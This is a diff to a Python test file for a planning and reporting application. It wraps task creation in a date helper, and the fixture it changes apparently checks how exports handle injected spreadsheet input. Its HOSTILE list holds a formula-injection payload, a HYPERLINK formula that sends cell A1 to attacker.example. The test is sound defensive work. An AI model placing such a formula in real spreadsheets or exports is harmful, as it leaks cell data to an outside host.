@@ -16,6 +16,7 @@ from cchc.plans.exports import plan_export_data
 from cchc.plans.models import Area
 from cchc.reporting import consolidation
 from tests.test_reporting_world import make_period
+from tests.web_helpers import on_day
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
@@ -31,16 +32,17 @@ def hostile(world):
     a note that opens like one (the consolidated report cites it as the reason)."""
     area = Area.objects.get(code=6)
     for n, title in enumerate(HOSTILE, start=1):
-        task = plan_services.task_create(
-            actor=None,
-            plan=world.plan,
-            area=area,
-            code=f"6.{n}",
-            title=title,
-            lead_unit=world.units["CTC"],
-            due_date=datetime.date(2026, 6, 1),
-            deliverable=title,
-        )
+        with on_day(world.issued_on):
+            task = plan_services.task_create(
+                actor=None,
+                plan=world.plan,
+                area=area,
+                code=f"6.{n}",
+                title=title,
+                lead_unit=world.units["CTC"],
+                due_date=datetime.date(2026, 6, 1),
+                deliverable=title,
+            )
         plan_progress.task_update_post(
             actor=world.users["focal_b"],
             task=task,
